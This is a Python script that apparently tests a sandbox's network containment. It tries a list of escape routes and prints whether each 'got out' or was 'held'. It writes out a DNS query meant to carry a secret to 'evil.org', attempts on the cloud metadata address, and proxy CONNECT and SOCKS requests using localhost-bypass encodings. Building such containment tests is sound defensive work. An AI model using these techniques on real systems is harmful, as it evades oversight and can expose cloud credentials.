"""Tried by a program in a box: each way out prints “got out: …” where it works. Standard library only."""

from __future__ import annotations

import contextlib
import os
import socket
import struct
import sys
import urllib.request
from collections.abc import Callable

_SECONDS = 1.0
_TLD_QUERY = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x04evil\x03org\x00\x00\x01\x00\x01"
"""A DNS query that would carry a secret out in its name."""


def tcp(host: str, port: int) -> bool:
    with socket.create_connection((host, port), timeout=_SECONDS) as found:
        found.settimeout(_SECONDS)
        return bool(found.recv(16))


def udp(host: str, port: int) -> bool:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.settimeout(_SECONDS)
        sender.sendto(_TLD_QUERY, (host, port))
        return bool(sender.recv(512))


def abstract(name: str) -> bool:
    with socket.socket(socket.AF_UNIX) as found:
        found.settimeout(_SECONDS)
        found.connect("\0" + name)
        return True


def unix(path: str) -> bool:
    with socket.socket(socket.AF_UNIX) as found:
        found.settimeout(_SECONDS)
        found.connect(path)
        return True


def raw() -> bool:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP):
        return True


def packet() -> bool:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW):
        return True


def lookup(name: str) -> bool:
    return bool(socket.getaddrinfo(name, 443))


def through_proxy(url: str) -> bool:
    with urllib.request.urlopen(url, timeout=5) as answer:
        return bool(answer.read(1) or answer.status)


def connect_through_proxy(target: str) -> bool:
    host, port = os.environ["HTTPS_PROXY"].removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=5) as proxy:
        proxy.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        return b" 200 " in proxy.recv(64)


def socks_through_proxy(address: str, port: int) -> bool:
    host, proxy_port = os.environ["HTTPS_PROXY"].removeprefix("http://").split(":")
    with socket.create_connection((host, int(proxy_port)), timeout=5) as proxy:
        proxy.sendall(b"\x05\x01\x00")
        proxy.recv(2)
        proxy.sendall(b"\x05\x01\x00\x01" + socket.inet_aton(address) + struct.pack(">H", port))
        return proxy.recv(10)[1:2] == b"\0"


def tried(attacks: dict[str, Callable[[], bool]]) -> None:
    for name, attack in attacks.items():
        done = False
        with contextlib.suppress(OSError, ValueError, KeyError):
            done = attack()
        sys.stdout.write(f"got out: {name}\n" if done else f"held: {name}\n")
    sys.stdout.write("all tried\n")


def network(port: int, own_address: str, name: str, path: str) -> dict[str, Callable[[], bool]]:
    """`port` listens on all addresses of the machine, for TCP and UDP; `name` and `path` are Unix sockets."""
    return {
        "a server of this machine": lambda: tcp("127.0.0.1", port),
        "a server of this machine by IPv6": lambda: tcp("::1", port),
        "a server of this machine by its own address": lambda: tcp(own_address, port),
        "UDP to this machine": lambda: udp("127.0.0.1", port),
        "UDP to its own address": lambda: udp(own_address, port),
        "the internet": lambda: tcp("1.1.1.1", 443),
        "a DNS tunnel": lambda: udp("1.1.1.1", 53),
        "a name": lambda: lookup("example.com"),
        "the keys of a cloud's machine": lambda: tcp("169.254.169.254", 80),
        "an abstract socket": lambda: abstract(name),
        "a socket in a folder": lambda: unix(path),
        "raw packets": raw,
        "packets of an interface": packet,
        "the proxy to a name that is not allowed": lambda: connect_through_proxy("evil.example.org:443"),
        "the proxy to this machine": lambda: connect_through_proxy(f"127.0.0.1:{port}"),
        "the proxy to this machine by its own address": lambda: connect_through_proxy(f"{own_address}:{port}"),
        "the proxy to this machine by a number": lambda: connect_through_proxy(f"2130706433:{port}"),
        "the proxy to this machine in IPv6": lambda: connect_through_proxy(f"[::ffff:127.0.0.1]:{port}"),
        "the proxy to the keys of a cloud's machine": lambda: through_proxy("http://169.254.169.254/latest/"),
        "the proxy to an allowed name at this machine": lambda: connect_through_proxy(f"localhost.:{port}"),
        "SOCKS to this machine": lambda: socks_through_proxy("127.0.0.1", port),
    }


if __name__ == "__main__":
    tried(network(int(sys.argv[1]), *sys.argv[2:5]))
